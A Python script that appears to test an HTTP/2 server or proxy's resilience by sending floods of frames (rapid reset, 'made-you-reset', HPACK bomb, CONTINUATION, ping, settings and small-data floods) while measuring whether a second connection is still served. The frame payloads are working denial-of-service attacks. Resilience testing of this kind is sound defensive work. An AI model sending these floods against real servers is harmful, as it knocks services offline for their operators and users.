"""Floods of HTTP/2 frames, each on a connection of its own, while a second connection is served.

    http2_attacks.py PORT ATTACK

Prints how the connection of the attack ended ("goaway CODE", "reset CODE", "closed", "open"), and how many of the
other's requests were answered while it was sent and in all, as "END meanwhile N others N of N".
"""

import socket
import sys
import threading
import time

from http2_cases import Connection, block, data, fields, frames, headers, post, raw, reset, setting, window, CODES


def stream_ids():
    return iter(range(1, 1 << 30, 2))


def rapid_reset(ids):
    stream = next(ids)
    return headers(stream, fields(path="/slow/2")) + reset(stream)


def made_reset(ids):
    stream = next(ids)
    return headers(stream, fields(path="/slow/2"), 4) + window(stream, 0x7FFF_FFFF)


def small_data(ids):
    """Frames of one byte on twenty streams: as much content as their windows allow."""
    return b"".join(data(stream, b"x", 0) * 500 for stream in range(1, 40, 2))


def malformed(ids):
    return headers(next(ids), fields(more=[("connection", "close")]))


ATTACKS = {
    "rapid-reset": (b"", rapid_reset),
    "made-you-reset": (b"", made_reset),
    "malformed": (b"", malformed),
    "settings": (b"", lambda ids: setting(3, 100)),
    "ping": (b"", lambda ids: raw(6, 0, 0, b"12345678")),
    "priority": (b"", lambda ids: raw(2, 0, 1, b"\0\0\0\0\x10")),
    "window": (b"", lambda ids: window(0, 1)),
    "empty-data": (post(1), lambda ids: data(1, b"", 0)),
    "small-data": (b"".join(post(stream) for stream in range(1, 40, 2)), small_data),
    "over": (headers(1) + reset(1), lambda ids: headers(1)),
    "continuation": (headers(1, flags=1), lambda ids: raw(9, 0, 1, block([("x", "y")], huffman=False))),
    "hpack-bomb": (
        b"",
        lambda ids: raw(
            1, 5, next(ids), b"\x40\x01x\x7f\xbd\x1e" + b"a" * 4028 + block(fields()) + b"\xbe" * 12000)),
    "streams": (b"", lambda ids: headers(next(ids), fields(path="/slow/2"))),
}


def serve_others(port, stop, counts):
    """Requests on one connection, one after the other."""
    connection = Connection(port)
    for stream in stream_ids():
        if stop.is_set():
            return
        counts[0] += 1
        connection.send(headers(stream))
        for frame in connection.frames(time.monotonic() + 30):
            if frame is None or isinstance(frame, (frames.GoAwayFrame, frames.RstStreamFrame)):
                return
            if "END_STREAM" in frame.flags:
                counts[1] += 1
                break
        time.sleep(0.01)


def attack(port, name, counts):
    first, flood = ATTACKS[name]
    connection = Connection(port)
    ids = stream_ids()
    connection.send(first)
    end, before = [], counts[1]

    def read():
        for frame in connection.frames(time.monotonic() + 60):
            if frame is None:
                end.append("closed")
                return
            if isinstance(frame, frames.GoAwayFrame):
                end.append("goaway " + CODES[frame.error_code])
                return

    reader = threading.Thread(target=read)
    reader.start()
    if name == "small-data":
        # What the windows hold, as fast as the proxy reads it.
        pieces = [flood(ids) * 130]
    else:
        pieces = (b"".join(flood(ids) for _ in range(50)) for _ in range(400))
    for piece in pieces:
        if reader.is_alive():
            connection.send(piece)
    meanwhile = counts[1] - before
    reader.join(timeout=5)
    connection.end()
    reader.join()
    return (end[0] if end else "open") + f" meanwhile {meanwhile}"


if __name__ == "__main__":
    port, name = int(sys.argv[1]), sys.argv[2]
    stop, counts = threading.Event(), [0, 0]
    other = threading.Thread(target=serve_others, args=(port, stop, counts))
    other.start()
    while counts[1] == 0 and other.is_alive():
        time.sleep(0.01)
    end = attack(port, name, counts)
    answered = counts[1]
    while counts[1] == answered and other.is_alive():
        time.sleep(0.01)
    stop.set()
    other.join()
    print(f"{end} others {counts[1]} of {counts[0]}")
